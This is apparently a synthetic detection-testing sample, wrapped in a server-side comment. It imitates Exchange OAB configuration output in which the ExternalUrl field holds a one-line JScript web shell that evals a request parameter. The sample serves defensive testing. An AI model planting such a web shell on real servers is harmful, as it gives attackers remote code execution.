<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
Name                            : OAB (Default Web Site)
ExtendedProtectionTokenChecking : None
InternalUrl                     : https://mail.example.test/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://x/<script language="JScript" runat="server">function Page_Load(){eval(Request["a"],"unsafe");}</script>

--%>
